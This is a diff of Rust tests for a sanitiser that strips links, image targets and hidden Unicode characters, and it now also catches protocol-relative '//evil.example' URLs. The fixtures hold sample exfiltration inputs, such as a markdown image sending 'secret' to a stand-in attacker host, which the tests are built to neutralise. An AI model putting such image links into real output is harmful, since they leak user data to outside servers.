@@ -7,10 +7,10 @@ fn links_images_and_markup_lose_their_targets() {
     assert_eq!(shown("see ![x](http://evil.example/?q=secret) now"), "see [x] now");
     assert_eq!(shown("go to https://evil.example/a?b=c, then"), "go to [link removed] then");
     assert_eq!(shown("[Report](//evil.example/(a)b) done"), "[Report] done");
-    assert_eq!(shown("<img src=//evil.example/x>"), "‹img src=//evil.example/x>");
+    assert_eq!(shown("<img src=//evil.example/x>"), "‹img src=[link removed]>");
     assert_eq!(shown("www.evil.example is bad"), "[link removed] is bad");
     assert_eq!(shown("ftp://evil.example/x y"), "ftp[link removed] y");
-    assert_eq!(shown("[1]: //evil.example"), "[1] : //evil.example");
+    assert_eq!(shown("[1]: //evil.example"), "[1] : [link removed]");
     assert_eq!(shown("a\u{202e}b\u{200b}c\u{7}d"), "abcd");
 }
 
@@ -21,6 +21,7 @@ fn ordinary_text_passes_unchanged() {
         "http is a word, https too: fine. www",
         "| a | b |\n| --- | --- |\n",
         "Really?! Yes!",
+        "24/7, a // b, and/or, / //",
     ] {
         assert_eq!(scrub(text), text);
     }
@@ -38,5 +39,6 @@ proptest! {
         prop_assert_eq!(&out, &scrub(&text));
         prop_assert!(!out.contains("://"), "{}", out);
         prop_assert!(!out.contains("]("), "{}", out);
+        prop_assert!(!out.contains("//a"), "{}", out);
     }
 }
